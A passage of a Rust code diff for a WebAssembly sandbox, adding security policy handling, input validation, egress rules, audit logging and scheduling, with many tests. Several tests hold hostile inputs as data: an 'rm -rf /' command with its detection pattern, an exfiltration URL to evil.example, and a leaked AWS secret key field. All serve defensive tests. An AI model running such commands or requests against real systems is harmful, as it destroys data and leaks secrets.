+
+    /// Load a module from a descriptor, with its binary if it has one. Without
+    /// the `wasmtime` feature binaries are ignored and the module is simulated.
+    async fn load_module_file(&self, module: WasmModule, _wasm: Option<&std::path::Path>) -> Result<(), Box<dyn std::error::Error>> {
+        #[cfg(feature = "wasmtime")]
+        if let Some(wasm) = _wasm {
+            let binary = tokio::fs::read(wasm).await?;
+            return self.load_module_binary(module, &binary).await;
+        }
+        self.load_module(module).await
+    }
+
     /// Get security policy
     pub fn security_policy(&self) -> &SecurityPolicy {
         &self.security_policy
     }
 
-    /// Update security policy
+    /// Compile the input validation rules of a policy
+    fn input_validator(policy: &SecurityPolicy) -> Arc<InputValidator> {
+        let validator = InputValidator::new(&policy.input_validation);
+        for (rule_id, error) in validator.invalid_patterns() {
+            warn!("🚨 Input rule {} has an invalid pattern and rejects all input: {}", rule_id, error);
+        }
+        Arc::new(validator)
+    }
+
+    /// Update security policy; input validation rules apply from the next execution
     pub fn update_security_policy(&mut self, policy: SecurityPolicy) {
+        if policy.max_concurrent_executions != self.security_policy.max_concurrent_executions
+            || policy.max_concurrent_per_module != self.security_policy.max_concurrent_per_module
+        {
+            self.execution_slots = Arc::new(ExecutionSlots::new(
+                policy.max_concurrent_executions,
+                policy.max_concurrent_per_module,
+                policy.fair_scheduling.clone(),
+            ));
+        } else if policy.fair_scheduling != self.security_policy.fair_scheduling {
+            self.execution_slots.set_fair_scheduling(policy.fair_scheduling.clone());
+        }
+        let previous_snapshot_id = std::mem::replace(
+            &mut self.policy_snapshot_id,
+            self.pins.lock().unwrap().archive_policy(&policy),
+        );
+        self.audit.record(AuditEvent::PolicyUpdated {
+            previous_snapshot_id,
+            snapshot_id: self.policy_snapshot_id.clone(),
+            policy: Box::new(policy.clone()),
+        });
+        self.input_validator = Self::input_validator(&policy);
         self.security_policy = policy;
-        info!("🔒 Updated security policy");
+        info!("🔒 Updated security policy (snapshot {})", self.policy_snapshot_id);
     }
 }
 
@@ -253,6 +1819,8 @@ struct SandboxResult {
     output: serde_json::Value,
     memory_used_kb: u64,
     security_violations: Vec<String>,
+    stdio: Option<CapturedStdio>,
+    resources: ResourceReport,
 }
 
 /// Default security policy
@@ -268,6 +1836,20 @@ impl Default for SecurityPolicy {
                 "kv".to_string(),
                 "logging".to_string(),
             ],
+            max_concurrent_executions: default_max_concurrent_executions(),
+            max_concurrent_per_module: None,
+            max_queue_depth: None,
+            capacity_grace_ms: default_capacity_grace_ms(),
+            overflow_mode: OverflowMode::Reject,
+            heartbeat_staleness_ms: None,
+            terminate_stalled: false,
+            wasi: WasiPolicy::default(),
+            max_fuel: default_max_fuel(),
+            input_validation: InputValidationPolicy::default(),
+            egress: EgressPolicy::default(),
+            max_output_bytes: default_max_output_bytes(),
+            output_overflow: OutputOverflow::Truncate,
+            fair_scheduling: FairSchedulingPolicy::default(),
         }
     }
 }
@@ -294,6 +1876,9 @@ mod tests {
             max_memory_mb: 64,
             max_execution_time_ms: 2000,
             checksum: "test-checksum".to_string(),
+            maintenance_hooks: vec![],
+            sandbox_profile: None,
+            rate_limit: None,
         };
 
         assert!(forge.load_module(module).await.is_ok());
@@ -312,6 +1897,9 @@ mod tests {
             max_memory_mb: 64,
             max_execution_time_ms: 2000,
             checksum: "test-checksum".to_string(),
+            maintenance_hooks: vec![],
+            sandbox_profile: None,
+            rate_limit: None,
         };
 
         forge.load_module(module).await.unwrap();
@@ -324,6 +1912,53 @@ mod tests {
         assert!(result.memory_used_kb > 0);
     }
 
+    #[tokio::test]
+    async fn test_trace_id_stored_with_result() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let trace = TraceContext::new();
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        let result = forge.execute_module_traced("versioned-module", input.clone(), Some(&trace)).await.unwrap();
+        assert_eq!(result.trace_id.as_deref(), Some(trace.trace_id.as_str()));
+
+        let stored = forge.get_execution_result(&result.execution_id).await.unwrap();
+        assert_eq!(stored.trace_id.as_deref(), Some(trace.trace_id.as_str()));
+
+        let untraced = forge.execute_module("versioned-module", input).await.unwrap();
+        assert!(untraced.trace_id.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_stdio_captured_into_result() {
+        let mut policy = SecurityPolicy::default();
+        policy.wasi.max_stdout_bytes = 5;
+        let forge = Forge::new(policy);
+
+        let mut module = versioned_module("1.0.0");
+        forge.load_module(module.clone()).await.unwrap();
+        let result = forge
+            .execute_module("versioned-module", serde_json::json!({"stdout": "hello world", "stderr": "oops"}))
+            .await
+            .unwrap();
+        let stdio = result.stdio.unwrap();
+        assert_eq!((stdio.stdout.as_str(), stdio.stderr.as_str(), stdio.truncated), ("hello", "oops", true));
+
+        // The pure profile links no stdio, so nothing is captured
+        module.version = "1.0.1".to_string();
+        module.sandbox_profile = Some("pure".to_string());
+        forge.load_module(module.clone()).await.unwrap();
+        let result = forge.execute_module("versioned-module", serde_json::json!({"stdout": "hello"})).await.unwrap();
+        assert!(result.stdio.is_none());
+
+        let clock = wat::parse_str(r#"(module (import "wasi_snapshot_preview1" "clock_time_get" (func (param i32 i64 i32) (result i32))))"#).unwrap();
+        let err = forge.link_wasi(&module, &clock).unwrap_err();
+        assert!(err.to_string().contains("wasi_snapshot_preview1::clock_time_get"));
+
+        module.sandbox_profile = Some("gpu".to_string());
+        assert!(forge.load_module(module).await.is_err());
+    }
+
     #[tokio::test]
     async fn test_security_violation() {
         let forge = Forge::new(SecurityPolicy::default());
@@ -336,6 +1971,9 @@ mod tests {
             max_memory_mb: 64,
             max_execution_time_ms: 2000,
             checksum: "test-checksum".to_string(),
+            maintenance_hooks: vec![],
+            sandbox_profile: None,
+            rate_limit: None,
         };
 
         forge.load_module(module).await.unwrap();
@@ -346,4 +1984,1014 @@ mod tests {
         assert!(!result.success);
         assert!(!result.security_violations.is_empty());
     }
+
+    #[tokio::test]
+    async fn test_input_rules_hot_updated() {
+        let mut forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        let input = serde_json::json!({"command": "test", "env": {"AWS_SECRET_ACCESS_KEY": "hunter2"}});
+
+        assert!(forge.execute_module("versioned-module", input.clone()).await.unwrap().success);
+
+        forge.update_security_policy(SecurityPolicy {
+            input_validation: InputValidationPolicy {
+                denied_paths: vec!["/env/AWS_SECRET_ACCESS_KEY".to_string()],
+                ..Default::default()
+            },
+            ..Default::default()
+        });
+        let result = forge.execute_module("versioned-module", input).await.unwrap();
+        assert!(!result.success);
+        assert_eq!(result.security_violations, vec![input_validation::RULE_DENIED_PATH.to_string()]);
+        assert_eq!(result.input_violations[0].path, "/env/AWS_SECRET_ACCESS_KEY");
+        assert!(!result.output.to_string().contains("hunter2"));
+    }
+
+    #[tokio::test]
+    async fn test_refused_input_audited() {
+        let mut forge = Forge::new(SecurityPolicy {
+            input_validation: InputValidationPolicy {
+                patterns: vec![PatternRule::new("shell_wipe", r"rm\s+-rf")],
+                ..Default::default()
+            },
+            ..Default::default()
+        });
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        let since = chrono::Utc::now();
+
+        let input = serde_json::json!({"command": "rm -rf /"});
+        let result = forge.execute_module_for_task("task-42", "versioned-module", input, None).await.unwrap();
+        assert!(!result.success);
+        assert_eq!(result.security_violations, vec!["shell_wipe".to_string()]);
+        assert_eq!(result.input_violations, vec![InputViolation {
+            rule_id: "shell_wipe".to_string(),
+            path: "/command".to_string(),
+            snippet: "rm -rf".to_string(),
+        }]);
+        forge.execute_module("versioned-module", serde_json::json!({"command": "test"})).await.unwrap();
+        forge.update_security_policy(SecurityPolicy { max_memory_mb: 256, ..Default::default() });
+
+        let filter = AuditFilter {
+            module_id: Some("versioned-module".to_string()),
+            since: Some(since),
+            ..Default::default()
+        };
+        let entries = forge.audit_log().query(&filter).await;
+        assert_eq!(entries.len(), 2);
+        match &entries[0].event {
+            AuditEvent::ExecutionAttempt { task_id, execution_id, decisions, violations, success, .. } => {
+                assert_eq!(task_id.as_deref(), Some("task-42"));
+                assert_eq!(execution_id.as_deref(), Some(result.execution_id.as_str()));
+                assert!(!success);
+                assert_eq!(violations, &result.security_violations);
+                assert!(decisions.iter().any(|d| d.check == audit::CHECK_INPUT_VALIDATION && !d.allowed));
+            }
+            other => panic!("unexpected audit event: {:?}", other),
+        }
+        assert!(matches!(entries[1].event, AuditEvent::ExecutionAttempt { success: true, task_id: None, .. }));
+
+        let all = forge.audit_log().query(&AuditFilter::default()).await;
+        assert!(matches!(all[0].event, AuditEvent::ModuleValidation { allowed: true, .. }));
+        assert!(matches!(all[3].event, AuditEvent::PolicyUpdated { .. }));
+
+        let mut exported = Vec::new();
+        let written = forge.audit_log().export_json_lines(&AuditFilter::default(), &mut exported).await.unwrap();
+        assert_eq!(written, 4);
+        let lines: Vec<serde_json::Value> = String::from_utf8(exported).unwrap()
+            .lines()
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect();
+        assert_eq!(lines[1]["event"], "execution_attempt");
+        assert_eq!(lines[1]["task_id"], "task-42");
+        assert_eq!(lines[3]["sequence"], 3);
+    }
+
+    fn module_with_hook(hook: MaintenanceHook) -> WasmModule {
+        WasmModule {
+            id: "hooked-module".to_string(),
+            name: "Hooked Module".to_string(),
+            version: "1.0.0".to_string(),
+            capabilities: vec!["kv".to_string()],
+            max_memory_mb: 64,
+            max_execution_time_ms: 2000,
+            checksum: "test-checksum".to_string(),
+            maintenance_hooks: vec![hook],
+            sandbox_profile: None,
+            rate_limit: None,
+        }
+    }
+
+    fn hook(interval_ms: u64, input: serde_json::Value) -> MaintenanceHook {
+        MaintenanceHook {
+            name: "refresh".to_string(),
+            export: "refresh_cache".to_string(),
+            interval_ms,
+            input,
+            max_memory_mb: None,
+            max_execution_time_ms: None,
+            max_consecutive_failures: 2,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_maintenance_hooks_run_on_schedule() {
+        let forge = Forge::new(SecurityPolicy::default());
+        let input = serde_json::json!({"command": "refresh", "complexity": 5});
+        forge.load_module(module_with_hook(hook(30, input))).await.unwrap();
+
+        let scheduler = forge.start_maintenance_scheduler(Duration::from_millis(5));
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        scheduler.abort();
+
+        let description = forge.describe("hooked-module").await.unwrap();
+        assert!(description.hooks[0].total_runs >= 2);
+        assert!(description.hooks[0].enabled);
+        assert!(forge.active_executions.read().await.values()
+            .all(|result| result.kind == ExecutionKind::Maintenance));
+    }
+
+    #[tokio::test]
+    async fn test_maintenance_hook_overlap_is_skipped() {
+        let forge = Forge::new(SecurityPolicy::default());
+        let input = serde_json::json!({"command": "refresh", "complexity": 300});
+        forge.load_module(module_with_hook(hook(20, input))).await.unwrap();
+
+        tokio::time::sleep(Duration::from_millis(25)).await;
+        forge.run_due_hooks().await;
+        tokio::time::sleep(Duration::from_millis(25)).await;
+        forge.run_due_hooks().await;
+
+        let status = &forge.describe("hooked-module").await.unwrap().hooks[0];
+        assert!(status.running);
+        assert_eq!(status.skipped_overlaps, 1);
+        assert_eq!(status.total_runs, 0);
+    }
+
+    #[tokio::test]
+    async fn test_maintenance_hook_disabled_after_failures() {
+        let forge = Forge::new(SecurityPolicy::default());
+        let mut events = forge.subscribe();
+        let input = serde_json::json!({"command": "timeout", "complexity": 1});
+        forge.load_module(module_with_hook(hook(10, input))).await.unwrap();
+
+        let scheduler = forge.start_maintenance_scheduler(Duration::from_millis(5));
+        let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+            .await
+            .expect("hook should be disabled")
+            .unwrap();
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        scheduler.abort();
+
+        assert!(matches!(event, ForgeEvent::HookDisabled { consecutive_failures: 2, .. }));
+        let status = &forge.describe("hooked-module").await.unwrap().hooks[0];
+        assert!(!status.enabled);
+        assert_eq!(status.total_runs, 2);
+    }
+
+    #[tokio::test]
+    async fn test_hook_override_cannot_raise_limits() {
+        let forge = Forge::new(SecurityPolicy::default());
+        let mut hook = hook(10, serde_json::Value::Null);
+        hook.max_execution_time_ms = Some(10_000);
+
+        assert!(forge.load_module(module_with_hook(hook)).await.is_err());
+    }
+
+    async fn saturated_forge(overflow_mode: OverflowMode) -> Forge {
+        let forge = Forge::new(SecurityPolicy {
+            max_concurrent_executions: 1,
+            capacity_grace_ms: 20,
+            overflow_mode,
+            ..SecurityPolicy::default()
+        });
+        forge.load_module(module_with_hook(hook(60_000, serde_json::Value::Null))).await.unwrap();
+
+        let busy = forge.clone();
+        tokio::spawn(async move {
+            busy.execute_module("hooked-module", serde_json::json!({"command": "slow", "complexity": 200}))
+                .await
+                .map(|_| ())
+                .map_err(|e| e.to_string())
+        });
+        tokio::time::sleep(Duration::from_millis(20)).await;
+        forge
+    }
+
+    #[tokio::test]
+    async fn test_execution_rejected_at_capacity() {
+        let forge = saturated_forge(OverflowMode::Reject).await;
+
+        let err = forge.execute_module("hooked-module", serde_json::json!({"command": "fast"}))
+            .await
+            .unwrap_err();
+        assert_eq!(err.to_string(), "forge_at_capacity");
+    }
+
+    #[tokio::test]
+    async fn test_execution_queued_at_capacity() {
+        let forge = saturated_forge(OverflowMode::Queue).await;
+
+        let started = Instant::now();
+        let result = forge.execute_module("hooked-module", serde_json::json!({"command": "fast", "complexity": 1}))
+            .await
+            .unwrap();
+        assert!(result.success);
+        assert!(started.elapsed() >= Duration::from_millis(150));
+    }
+
+    #[tokio::test]
+    async fn test_light_tenant_not_delayed_behind_heavy_backlog() {
+        let forge = saturated_forge(OverflowMode::Queue).await;
+
+        let spawn = |tenant: &'static str| {
+            let forge = forge.clone();
+            tokio::spawn(async move {
+                let input = serde_json::json!({"command": "work", "complexity": 10});
+                forge.execute_module_for_tenant(tenant, "hooked-module", input, None).await.unwrap();
+                (tenant, Instant::now())
+            })
+        };
+        let heavy: Vec<_> = (0..10).map(|_| spawn("tenant-a")).collect();
+        tokio::time::sleep(Duration::from_millis(20)).await;
+        let light: Vec<_> = (0..2).map(|_| spawn("tenant-b")).collect();
+        tokio::time::sleep(Duration::from_millis(20)).await;
+
+        let stats = forge.execution_stats().await;
+        assert_eq!((stats.tenants["tenant-a"].queued, stats.tenants["tenant-b"].queued), (10, 2));
+
+        let mut finished = Vec::new();
+        for task in heavy.into_iter().chain(light) {
+            finished.push(task.await.unwrap());
+        }
+        finished.sort_by_key(|(_, at)| *at);
+        let order: Vec<&str> = finished.iter().map(|(tenant, _)| *tenant).collect();
+
+        // Equal weights: B's two executions are interleaved with A's, not run after all ten
+        let b_positions: Vec<usize> = order.iter().enumerate().filter(|(_, t)| **t == "tenant-b").map(|(i, _)| i).collect();
+        assert_eq!(b_positions, [1, 3]);
+    }
+
+    #[tokio::test]
+    async fn test_per_module_limit_queues_third_execution() {
+        let forge = Forge::new(SecurityPolicy {
+            max_concurrent_per_module: Some(2),
+            max_queue_depth: Some(1),
+            overflow_mode: OverflowMode::Queue,
+            ..SecurityPolicy::default()
+        });
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let spawn = |complexity: u64| {
+            let forge = forge.clone();
+            tokio::spawn(async move {
+                let input = serde_json::json!({"command": "work", "complexity": complexity});
+                forge.execute_module("versioned-module", input).await.map(|_| Instant::now()).map_err(|e| e.to_string())
+            })
+        };
+        let first = spawn(200);
+        let second = spawn(400);
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        let third = spawn(10);
+        tokio::time::sleep(Duration::from_millis(50)).await;
+
+        let stats = forge.execution_stats().await;
+        assert_eq!((stats.in_flight, stats.queued), (2, 1));
+        assert_eq!(stats.modules["versioned-module"], SlotCounts { in_flight: 2, queued: 1 });
+
+        // The queue is full, so a fourth caller fails fast
+        let err = forge.execute_module("versioned-module", serde_json::json!({"command": "work"})).await.unwrap_err();
+        assert!(matches!(err.downcast_ref::<SlotError>(), Some(SlotError::Exhausted { queued: 1, max_queue_depth: 1 })));
+
+        // The third runs once the first finishes, well before the second does
+        let first_done = first.await.unwrap().unwrap();
+        let third_done = third.await.unwrap().unwrap();
+        let second_done = second.await.unwrap().unwrap();
+        assert!(third_done > first_done);
+        assert!(third_done < second_done);
+
+        let stats = forge.execution_stats().await;
+        assert_eq!((stats.in_flight, stats.queued), (0, 0));
+        assert!(stats.modules.is_empty());
+    }
+
+    fn versioned_module(version: &str) -> WasmModule {
+        WasmModule {
+            id: "versioned-module".to_string(),
+            name: "Versioned Module".to_string(),
+            version: version.to_string(),
+            capabilities: vec!["http".to_string()],
+            max_memory_mb: 64,
+            max_execution_time_ms: 2000,
+            checksum: format!("checksum-{}", version),
+            maintenance_hooks: vec![],
+            sandbox_profile: None,
+            rate_limit: None,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_http_requests_audited_and_reported() {
+        let mut policy = SecurityPolicy::default();
+        policy.wasi.profiles.insert("network".to_string(), vec![WasiInterface::Http]);
+        policy.egress.allowed_destinations = vec![EgressDestination::new("api.internal", None)];
+        let forge = Forge::new(policy);
+        forge.load_module(WasmModule { sandbox_profile: Some("network".to_string()), ..versioned_module("1.0.0") }).await.unwrap();
+
+        let input = serde_json::json!({
+            "command": "fetch",
+            "http_requests": [{"url": "https://evil.example/exfil?data=1"}],
+        });
+        let result = forge.execute_module("versioned-module", input).await.unwrap();
+        assert!(result.success);
+        assert_eq!(result.output["http_responses"][0]["error"]["code"], "destination_denied");
+        assert_eq!(result.resources.http_requests.len(), 1);
+        assert_eq!(result.resources.http_requests[0].destination, "https://evil.example:443/exfil");
+        assert_eq!(result.resources.http_bytes, 0);
+
+        let entries = forge.audit_log().query(&AuditFilter::default()).await;
+        match &entries.last().unwrap().event {
+            AuditEvent::ExecutionAttempt { http_requests, .. } => assert_eq!(http_requests, &result.resources.http_requests),
+            other => panic!("unexpected audit event: {:?}", other),
+        }
+
+        // Without the profile granting `http` nothing is sent
+        forge.load_module(versioned_module("1.1.0")).await.unwrap();
+        let input = serde_json::json!({"http_requests": [{"url": "https://api.internal/"}]});
+        let result = forge.execute_module("versioned-module", input).await.unwrap();
+        assert_eq!(result.output["http_responses"][0]["error"]["code"], "capability_not_granted");
+    }
+
+    /// Answer every request on a local port with the status in `status`
+    async fn scripted_server(status: Arc<std::sync::atomic::AtomicU16>) -> u16 {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                let mut request = Vec::new();
+                let mut buf = [0u8; 1024];
+                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buf).await {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => request.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let status = status.load(std::sync::atomic::Ordering::SeqCst);
+                let response = format!("HTTP/1.1 {} Scripted\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", status);
+                let _ = stream.write_all(response.as_bytes()).await;
+            }
+        });
+        port
+    }
+
+    #[tokio::test]
+    async fn test_capability_burn_rate_alert_fires_and_clears() {
+        let status = Arc::new(std::sync::atomic::AtomicU16::new(503));
+        let port = scripted_server(status.clone()).await;
+        let mut policy = SecurityPolicy::default();
+        policy.wasi.profiles.insert("network".to_string(), vec![WasiInterface::Http]);
+        policy.egress.allowed_destinations = vec![EgressDestination::new("127.0.0.1", Some(port))];
+        policy.egress.allow_plaintext = true;
+        let forge = Forge::new(policy).with_capability_slos(CapabilitySloPolicy {
+            default_target: SloTarget { objective: 0.9, latency_ms: 5000 },
+            fast_burn_threshold: 5.0,
+            slow_burn_threshold: 1000.0,
+            min_window_calls: 10,
+            ..Default::default()
+        });
+        forge.load_module(WasmModule { sandbox_profile: Some("network".to_string()), ..versioned_module("1.0.0") }).await.unwrap();
+        let mut events = forge.subscribe();
+        let calls = |n: usize| serde_json::json!({"http_requests": vec![serde_json::json!({"url": format!("http://127.0.0.1:{}/", port)}); n]});
+
+        // 6 failures of 10 calls is a 6x burn of a 10% budget, past the 5x threshold
+        forge.execute_module("versioned-module", calls(4)).await.unwrap();
+        status.store(200, std::sync::atomic::Ordering::SeqCst);
+        forge.execute_module("versioned-module", calls(4)).await.unwrap();
+        assert!(events.try_recv().is_err(), "4 of 8 calls is under the threshold");
+        status.store(503, std::sync::atomic::Ordering::SeqCst);
+        forge.execute_module("versioned-module", calls(2)).await.unwrap();
+        match events.try_recv().unwrap() {
+            ForgeEvent::CapabilitySloAlert(alert) => {
+                assert_eq!((alert.capability.as_str(), alert.window), ("http", BurnWindow::Fast));
+                assert!((alert.burn_rate - 6.0).abs() < 1e-9);
+                assert_eq!(alert.top_modules[0].module_id, "versioned-module");
+                assert_eq!(alert.top_modules[0].bad_calls, 6);
+            }
+            other => panic!("expected a burn-rate alert, got {:?}", other),
+        }
+        let stats = forge.execution_stats().await.capabilities["http"].clone();
+        assert_eq!((stats.calls, stats.failures, stats.firing.clone()), (10, 6, vec![BurnWindow::Fast]));
+
+        // Two more good calls bring the ratio to 6 of 12, a 5x burn; the third clears it
+        status.store(200, std::sync::atomic::Ordering::SeqCst);
+        forge.execute_module("versioned-module", calls(2)).await.unwrap();
+        assert!(events.try_recv().is_err());
+        forge.execute_module("versioned-module", calls(1)).await.unwrap();
+        assert!(matches!(events.try_recv().unwrap(), ForgeEvent::CapabilitySloCleared { window: BurnWindow::Fast, .. }));
+        assert!(forge.execution_stats().await.capabilities["http"].firing.is_empty());
+
+        let usage = &forge.describe("versioned-module").await.unwrap().capabilities["http"];
+        assert_eq!((usage.calls, usage.failures), (13, 6));
+    }
+
+    #[tokio::test]
+    async fn test_module_version_history_and_rollback() {
+        let forge = Forge::new(SecurityPolicy::default()).with_version_history(2);
+        for version in ["1.0.0", "1.1.0", "2.0.0"] {
+            forge.load_module(versioned_module(version)).await.unwrap();
+        }
+
+        assert_eq!(forge.list_module_versions("versioned-module").await, vec!["1.1.0", "2.0.0"]);
+        assert_eq!(forge.get_module("versioned-module").await.unwrap().version, "2.0.0");
+
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        let result = forge.execute_module_version("versioned-module", "1.1.0", input.clone()).await.unwrap();
+        assert!(result.success);
+        assert!(forge.execute_module_version("versioned-module", "1.0.0", input).await.is_err());
+
+        forge.rollback_module("versioned-module", "1.1.0").await.unwrap();
+        assert_eq!(forge.get_module("versioned-module").await.unwrap().version, "1.1.0");
+        assert_eq!(forge.list_module_versions("versioned-module").await.len(), 2);
+        assert!(forge.rollback_module("versioned-module", "1.0.0").await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_replay_pinned_to_module_version_and_policy() {
+        let mut forge = Forge::new(SecurityPolicy::default())
+            .with_version_history(1)
+            .with_policy_snapshot_history(0);
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let input = serde_json::json!({"command": "test", "complexity": 300});
+        let original = forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        assert!(original.success);
+
+        // Upgrade to a version with a tighter limit, evicting v1, and tighten the policy twice
+        let mut upgraded = versioned_module("2.0.0");
+        upgraded.max_execution_time_ms = 100;
+        forge.load_module(upgraded).await.unwrap();
+        assert_eq!(forge.list_module_versions("versioned-module").await, vec!["2.0.0"]);
+        for max_execution_time_ms in [1000, 200] {
+            forge.update_security_policy(SecurityPolicy { max_execution_time_ms, ..SecurityPolicy::default() });
+        }
+        let current = forge.execute_module("versioned-module", input).await.unwrap();
+        assert!(!current.success);
+        assert_ne!(current.blob_hash, original.blob_hash);
+        assert_ne!(current.policy_snapshot_id, original.policy_snapshot_id);
+
+        // The old blob and old limits are still pinned by the retained execution
+        let replay = forge.replay_execution(&original.execution_id).await.unwrap();
+        assert!(replay.success);
+        assert_eq!(replay.kind, ExecutionKind::Replay);
+        assert_eq!(replay.module_version, "1.0.0");
+        assert_eq!(replay.blob_hash, original.blob_hash);
+        assert_eq!(replay.policy_snapshot_id, original.policy_snapshot_id);
+        assert_eq!(replay.replay_of.as_deref(), Some(original.execution_id.as_str()));
+
+        forge.purge_executions("versioned-module").await;
+        assert!(forge.replay_execution(&original.execution_id).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_default_version_alias() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        forge.load_module(versioned_module("2.0.0")).await.unwrap();
+
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        for version in ["1.0.0", "2.0.0"] {
+            let result = forge.execute_module_version("versioned-module", version, input.clone()).await.unwrap();
+            assert_eq!(result.module_version, version);
+        }
+        let result = forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        assert_eq!(result.module_version, "2.0.0");
+
+        forge.set_default_version("versioned-module", "1.0.0").await.unwrap();
+        let result = forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        assert_eq!(result.module_version, "1.0.0");
+
+        // The default cannot be unloaded; the other version can
+        assert!(forge.unload_module_version("versioned-module", "1.0.0").await.is_err());
+        forge.unload_module_version("versioned-module", "2.0.0").await.unwrap();
+        assert_eq!(forge.list_module_versions("versioned-module").await, vec!["1.0.0"]);
+        assert!(forge.execute_module_version("versioned-module", "2.0.0", input).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_registry_export_wipe_reimport() {
+        let forge = Forge::new(SecurityPolicy::default());
+        for version in ["1.0.0", "2.0.0"] {
+            forge.load_module(versioned_module(version)).await.unwrap();
+        }
+        forge.set_default_version("versioned-module", "1.0.0").await.unwrap();
+        let limit = RateLimit { requests_per_second: 5.0, burst: 2 };
+        forge.set_module_rate_limit("versioned-module", Some(limit)).await.unwrap();
+        let mut other = versioned_module("0.1.0");
+        other.id = "other-module".to_string();
+        forge.load_module(other).await.unwrap();
+
+        let exported = forge.export_registry().await;
+        let json = serde_json::to_string(&exported).unwrap();
+        assert_eq!(exported.modules.len(), 3);
+        assert_eq!(exported.default_versions["versioned-module"], "1.0.0");
+        assert_eq!(exported.rate_limit_overrides["versioned-module"].limit, Some(limit));
+
+        // Wipe, leaving a stray module that Replace must remove
+        for module in forge.list_modules().await {
+            forge.unload_module(&module.id).await.unwrap();
+        }
+        let mut stray = versioned_module("9.9.9");
+        stray.id = "stray-module".to_string();
+        forge.load_module(stray).await.unwrap();
+
+        let snapshot: RegistrySnapshot = serde_json::from_str(&json).unwrap();
+        let report = forge.import_registry(snapshot, ImportMode::Replace).await;
+        assert_eq!((report.loaded(), report.failed().count()), (3, 0));
+
+        let reimported = forge.export_registry().await;
+        let diff = |snapshot: &RegistrySnapshot| {
+            let mut value = serde_json::to_value(snapshot).unwrap();
+            value.as_object_mut().unwrap().remove("exported_at");
+            value
+        };
+        assert_eq!(diff(&reimported), diff(&exported));
+        assert!(forge.get_module("stray-module").await.is_none());
+        assert_eq!(forge.module_rate_limit("versioned-module"), Some(limit));
+    }
+
+    #[tokio::test]
+    async fn test_registry_import_reports_rejected_modules() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let mut greedy = versioned_module("1.0.0");
+        greedy.id = "greedy-module".to_string();
+        greedy.max_memory_mb = 4096;
+        let snapshot = RegistrySnapshot {
+            exported_at: chrono::Utc::now(),
+            modules: vec![greedy, versioned_module("2.0.0")],
+            default_versions: Default::default(),
+            rate_limit_overrides: Default::default(),
+        };
+
+        let report = forge.import_registry(snapshot, ImportMode::Merge).await;
+        assert_eq!(report.loaded(), 1);
+        let failed: Vec<&ModuleImport> = report.failed().collect();
+        assert_eq!(failed.len(), 1);
+        assert_eq!(failed[0].module_id, "greedy-module");
+        assert!(failed[0].error.as_deref().unwrap().contains("memory limit"));
+
+        // Merging keeps what was already loaded
+        assert_eq!(forge.list_module_versions("versioned-module").await, vec!["1.0.0", "2.0.0"]);
+    }
+
+    #[tokio::test]
+    async fn test_load_modules_from_dir() {
+        let dir = tempfile::tempdir().unwrap();
+        let write = |name: &str, content: String| std::fs::write(dir.path().join(name), content).unwrap();
+        write("versioned.module.json", serde_json::to_string(&versioned_module("1.0.0")).unwrap());
+        let mut greedy = versioned_module("1.0.0");
+        greedy.id = "greedy-module".to_string();
+        greedy.max_memory_mb = 4096;
+        write("greedy.module.json", serde_json::to_string(&greedy).unwrap());
+        write("broken.module.json", "{\"id\": ".to_string());
+        write("notes.json", "{}".to_string());
+
+        let forge = Forge::new(SecurityPolicy::default());
+        let report = forge.load_modules_from_dir(dir.path()).await.unwrap();
+        assert_eq!(report.modules.len(), 3);
+        assert_eq!(report.loaded(), 1);
+        let failed: Vec<(&str, bool)> = report.failed()
+            .map(|module| (module.module_id.as_str(), module.error.as_deref().unwrap().starts_with("Invalid descriptor")))
+            .collect();
+        assert_eq!(failed, [("", true), ("greedy-module", false)]);
+        assert_eq!(report.modules[0].source.as_deref(), Some(dir.path().join("broken.module.json").as_path()));
+        assert!(forge.get_module("versioned-module").await.is_some());
+
+        assert!(forge.load_modules_from_dir(dir.path().join("missing")).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_aggregate_metrics() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        forge.load_module(module_with_hook(hook(60_000, serde_json::Value::Null))).await.unwrap();
+
+        for command in ["test", "test", "timeout"] {
+            forge.execute_module("versioned-module", serde_json::json!({"command": command, "complexity": 10})).await.unwrap();
+        }
+        assert!(!forge.execute_module("versioned-module", serde_json::json!({"command": "malicious"})).await.unwrap().success);
+        forge.execute_module("hooked-module", serde_json::json!({"command": "test", "complexity": 10})).await.unwrap();
+
+        let metrics = forge.metrics();
+        assert_eq!(metrics.totals.executions, 5);
+        assert_eq!(metrics.totals.successes, 3);
